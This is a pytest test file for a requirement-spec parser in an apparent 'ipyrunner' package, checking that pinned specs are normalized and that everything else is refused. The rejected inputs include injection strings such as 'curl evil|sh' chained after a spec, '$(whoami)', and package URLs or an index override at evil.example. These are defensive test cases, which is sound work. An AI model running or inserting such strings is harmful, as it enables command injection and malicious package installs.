from __future__ import annotations

import pytest

from ipyrunner.errors import InvalidRequirement
from ipyrunner.requirements import parse_requirement, parse_requirements, requirements_in_code


@pytest.mark.parametrize(
    ("spec", "canonical"),
    [
        ("pyyaml==6.0.2", "pyyaml==6.0.2"),
        ("PyYAML==6.0.2", "pyyaml==6.0.2"),
        ("Zope.Interface==6.0", "zope-interface==6.0"),
        ("requests[socks,Security]==2.31.0", "requests[security,socks]==2.31.0"),
        ("torch==2.1.0+cpu", "torch==2.1.0+cpu"),
        ("numpy==1.26.0rc1", "numpy==1.26.0rc1"),
        ("pkg==1!2.0.post1.dev3", "pkg==1!2.0.post1.dev3"),
        ("  six==1.16.0  ", "six==1.16.0"),
    ],
)
def test_pinned_specs_are_accepted_in_normal_form(spec: str, canonical: str) -> None:
    assert str(parse_requirement(spec)) == canonical


@pytest.mark.parametrize(
    ("spec", "why"),
    [
        ("requests", "not pinned; write requests==VERSION"),
        ("requests>=2.0", "not pinned"),
        ("https://evil.example/pkg.whl", "URL"),
        ("git+https://github.com/a/b.git", "URL"),
        ("pkg @ https://evil.example/pkg.whl", "URL"),
        ("./local/pkg", "path"),
        ("/abs/pkg", "path"),
        ("-e .", "pip option"),
        ("--index-url=https://evil.example/simple", "pip option"),
        ("-r requirements.txt", "pip option"),
        ('pyyaml==6.0.2; os_name=="nt"', "marker"),
        ("pyyaml==6.0.2 && curl evil|sh", "characters"),
        ("pyyaml==$(whoami)", "characters"),
        ("'pyyaml==6.0.2'", "characters"),
        ("pyyaml == 6.0.2", "characters"),
        ("pyyaml==6.*", "not an exact version"),
        ("pyyaml===6.0.2", "not an exact version"),
        ("pyyaml==6.0-post1", "canonical form"),
        ("", "empty"),
    ],
)
def test_everything_else_is_refused_naming_the_spec_and_why(spec: str, why: str) -> None:
    with pytest.raises(InvalidRequirement) as info:
        parse_requirement(spec)
    message = str(info.value)
    assert repr(spec.strip()) in message or repr(spec) in message
    assert why in message


def test_unpinned_specs_pass_only_with_the_setting() -> None:
    assert str(parse_requirement("requests>=2,<3", allow_unpinned=True)) == "requests>=2,<3"
    assert str(parse_requirement("requests", allow_unpinned=True)) == "requests"
    with pytest.raises(InvalidRequirement):
        parse_requirement("git+https://x/y", allow_unpinned=True)


def test_lists_are_sorted_deduplicated_and_conflicts_refused() -> None:
    assert [str(r) for r in parse_requirements("six==1.16.0,PyYAML==6.0.2,pyyaml==6.0.2")] == [
        "pyyaml==6.0.2",
        "six==1.16.0",
    ]
    with pytest.raises(InvalidRequirement, match="conflict"):
        parse_requirements(["six==1.16.0", "six==1.15.0"])


def test_requires_lines_in_a_cell() -> None:
    code = "import yaml\n# requires: pyyaml==6.0.2, six==1.16.0\n  //requires: a==1\nx = 1\n"
    assert requirements_in_code(code) == ["pyyaml==6.0.2", "six==1.16.0", "a==1"]
